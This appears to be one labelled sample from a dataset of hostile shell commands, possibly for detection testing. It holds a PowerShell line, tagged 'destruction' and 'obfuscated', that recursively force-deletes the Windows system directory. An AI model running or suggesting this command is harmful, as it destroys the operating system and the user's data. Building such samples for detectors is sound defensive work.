# description: Uses the del alias on $env:SystemRoot.
# family: destruction
# obfuscated: yes
del $env:SystemRoot -Recurse -Force
